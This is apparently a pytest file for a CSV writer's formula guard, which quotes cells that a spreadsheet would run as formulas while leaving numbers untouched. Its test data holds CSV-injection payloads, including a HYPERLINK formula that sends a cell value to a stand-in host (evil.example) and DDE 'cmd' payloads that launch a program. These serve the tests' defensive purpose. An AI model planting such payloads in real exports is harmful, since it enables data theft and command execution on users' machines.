"""No cell of a CSV that we write is run by a spreadsheet, numbers stay numbers, and it can be turned off."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest
from daemons import star_agents
from test_score_file import Letters, score

from star_agents.config.sections import ScoringConfig
from star_agents.engine.score_dataset.job import ScoreJob
from star_agents.storage.formats.formula_cells import FormulaGuard
from star_agents.storage.formats.row_writing import write_rows

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1;"see")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "- a list item",
    "-1.5\n=1+1",
    "--5",
    "-",
    "+1.5-2",
]
NUMBERS = ["-1.5", "+3", "-7", "-.5", "-1e-05", "+1.5E+3", "-0.0"]
PLAIN = ["", "a=b", " =1", "'=1", "x@y", "1-1", "5", '"=1"']


@pytest.mark.parametrize("text", FORMULAS)
def test_what_begins_as_a_formula_is_marked_as_text(text: str) -> None:
    guard = FormulaGuard()
    assert guard(text) == f"'{text}"
    assert guard.cells == 1
    assert FormulaGuard(is_off=True)(text) == text


@pytest.mark.parametrize("text", [*NUMBERS, *PLAIN])
def test_numbers_and_other_texts_stay_as_they_are(text: str) -> None:
    guard = FormulaGuard()
    assert guard(text) == text
    assert guard.cells == 0


def test_cells_names_of_columns_and_nothing_else_are_marked(tmp_path: Path) -> None:
    path, guard = tmp_path / "rows.csv", FormulaGuard()
    rows: list[dict[str, Any]] = [{"=name": text, "number": -1.5, "list": [-1], "none": None} for text in FORMULAS]
    write_rows(path, rows, guard=guard)
    assert cells_of(path)[0] == ["'=name", "number", "list", "none"]
    assert cells_of(path)[1:] == [[f"'{text}", "-1.5", "[-1]", ""] for text in FORMULAS]
    assert guard.cells == 1 + len(FORMULAS)


def test_it_is_on_unless_it_is_turned_off_and_other_formats_are_as_ever(tmp_path: Path) -> None:
    write_rows(tmp_path / "a.csv", [{"a": "=1"}])
    write_rows(tmp_path / "b.csv", [{"a": "=1"}], guard=FormulaGuard(is_off=True))
    write_rows(tmp_path / "c.jsonl", [{"a": "=1"}], guard=FormulaGuard())
    assert cells_of(tmp_path / "a.csv")[1] == ["'=1"]
    assert cells_of(tmp_path / "b.csv")[1] == ["=1"]
    assert json.loads((tmp_path / "c.jsonl").read_text()) == {"a": "=1"}


@pytest.mark.parametrize("raw", [False, True])
async def test_scoring_a_csv_keeps_its_numbers_and_counts_what_it_marks(raw: bool, tmp_path: Path) -> None:
    source, out = tmp_path / "in.csv", tmp_path / "out.csv"
    rows = [["instruction", "output", "note"], *(["Why?", "So it is.", note] for note in [*NUMBERS, *FORMULAS])]
    with source.open("w", newline="") as file:
        csv.writer(file).writerows(rows)
    result = await score(ScoreJob(source=source, out=out, config=ScoringConfig(), raw_csv=raw), Letters())
    notes = [row[2] for row in cells_of(out)[1:]]
    assert notes == [*NUMBERS, *(text if raw else f"'{text}" for text in FORMULAS)]
    assert result.guarded_cells == (0 if raw else len(FORMULAS))


def test_the_command_says_how_many_cells_it_marked_and_how_to_turn_that_off(tmp_path: Path) -> None:
    source, out = tmp_path / "in.csv", tmp_path / "out.csv"
    source.write_text("instruction,output,gap_before\nWhy is it so?,=So it must be.,-1.5\n")
    verb = ("score", source, "--small", "offline/small", "--large", "offline/large", "-o", out)
    done = star_agents(*verb)
    assert "note: 1 cells that a spreadsheet would run as formulas" in done.stdout
    assert "--raw-csv" in done.stdout
    assert cells_of(out)[1][:3] == ["Why is it so?", "'=So it must be.", "-1.5"]
    assert star_agents(*verb, "--raw-csv", "--fresh").returncode == 0
    assert cells_of(out)[1][1] == "=So it must be."


def test_a_carriage_return_in_a_cell_ends_no_row(tmp_path: Path) -> None:
    write_rows(tmp_path / "a.csv", [{"a": "one\r=1+1", "b": "\r"}, {"a": "two\r\n=1+1", "b": "x"}])
    assert cells_of(tmp_path / "a.csv") == [["a", "b"], ["one\r=1+1", "'\r"], ["two\r\n=1+1", "x"]]
    assert b"\r\n" not in (tmp_path / "a.csv").read_bytes().replace(b"two\r\n", b"")


def cells_of(path: Path) -> list[list[str]]:
    with path.open(newline="") as file:
        return list(csv.reader(file))
